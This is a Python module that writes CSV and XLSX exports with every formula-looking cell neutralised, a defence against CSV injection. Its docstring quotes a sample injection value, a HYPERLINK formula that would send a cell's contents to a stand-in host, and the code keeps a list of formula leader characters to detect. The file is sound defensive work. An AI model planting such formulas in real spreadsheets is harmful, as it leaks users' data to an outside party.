"""Spreadsheet exports (CSV and XLSX) in which no cell is ever a formula. Pure: no Flask, no database.

A stored value may look like a formula: a guest named ``=HYPERLINK("http://x/?"&A1,"click")``, an address that
starts with ``+`` or ``-``, a reason typed after a tab. Input rules refuse such leaders on new rows, but rows
stored before them (and imports) reach the exports too, so every cell is neutralised here, when it is written,
as OWASP's "CSV Injection" page advises:

- CSV: a text cell that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return (or their full-width forms,
  which some spreadsheet locales accept as well) gets a leading single quote, and every cell is quoted.
- XLSX: every text is a string cell, never a formula (openpyxl would store a string that starts with ``=`` as a
  formula, and ``#N/A`` as an error, unless told otherwise); a formula-looking one also carries Excel's
  ``quotePrefix`` so that editing the cell keeps it text. Its value stays as stored. Characters XML cannot carry
  become U+FFFD (openpyxl would refuse the whole file).

``write_csv`` and ``write_xlsx`` apply this to every cell, the header included; use them for every export.
"""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path
from typing import IO, Any

FORMULA_LEADERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PROGRESS_EVERY = 500

Sheet = tuple[str, Sequence[Any], Iterable[Sequence[Any]]]  # title, header, rows
OnRow = Callable[[int], None]


def looks_like_formula(value: object) -> bool:
    """A text a spreadsheet would evaluate (or start a formula with) if the cell were read as typed."""
    return isinstance(value, str) and value.startswith(FORMULA_LEADERS)


def neutralize(value: Any) -> Any:
    """The CSV form of a cell: a formula-looking text with a leading single quote; anything else unchanged."""
    return "'" + value if looks_like_formula(value) else value


def csv_row(row: Iterable[Any]) -> list[Any]:
    return [neutralize(value) for value in row]


def write_csv(output: IO[str], head: Sequence[Any], rows: Iterable[Sequence[Any]], on_row: OnRow | None = None) -> int:
    """Write the header and the rows, every cell neutralised and quoted; returns the number of rows."""
    writer = csv.writer(output, quoting=csv.QUOTE_ALL)
    writer.writerow(csv_row(head))
    n = 0
    for n, row in enumerate(rows, start=1):
        writer.writerow(csv_row(row))
        if on_row is not None and n % PROGRESS_EVERY == 0:
            on_row(n)
    return n


def xlsx_row(sheet: Any, row: Iterable[Any]) -> list[Any]:
    """The cells of one row of a write-only sheet: text always a string cell, other values as they are.

    openpyxl makes a plain text a string cell itself; only a text it would read otherwise (``=…`` a formula,
    ``#N/A`` an error), a formula-looking one (quote prefix) or one XML cannot carry gets a cell built here.
    """
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

    cells: list[Any] = []
    for value in row:
        if not isinstance(value, str):
            cells.append(value)
            continue
        formula = looks_like_formula(value)
        illegal = ILLEGAL_CHARACTERS_RE.search(value) is not None
        if not (formula or illegal or value in ERROR_CODES):
            cells.append(value)
            continue
        cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("\ufffd", value) if illegal else value)
        cell.data_type = "s"  # never "f" (formula) or "e" (error), whatever the text starts with
        if formula:
            cell.quotePrefix = True
        cells.append(cell)
    return cells


def write_xlsx(path: Path | IO[bytes], sheets: Iterable[Sheet], on_row: OnRow | None = None) -> int:
    """openpyxl's write-only mode streams rows to the file: memory stays flat whatever the row count."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    n = 0
    for title, head, rows in sheets:
        sheet = workbook.create_sheet(title=title[:31])
        sheet.append(xlsx_row(sheet, head))
        for row in rows:
            sheet.append(xlsx_row(sheet, row))
            n += 1
            if on_row is not None and n % PROGRESS_EVERY == 0:
                on_row(n)
    workbook.save(path)
    return n


__all__ = [
    "FORMULA_LEADERS",
    "csv_row",
    "looks_like_formula",
    "neutralize",
    "write_csv",
    "write_xlsx",
    "xlsx_row",
]
